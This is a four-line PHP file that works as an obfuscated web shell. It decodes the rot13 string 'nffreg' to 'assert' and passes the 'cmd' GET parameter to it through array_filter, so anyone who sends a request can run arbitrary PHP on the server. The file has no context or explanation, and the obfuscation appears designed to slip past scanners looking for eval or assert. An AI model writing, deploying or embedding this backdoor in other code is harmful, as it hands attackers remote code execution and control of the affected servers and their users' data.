<?php
$a = array($_GET['cmd']);
$f = str_rot13('nffreg');
array_filter($a, $f);
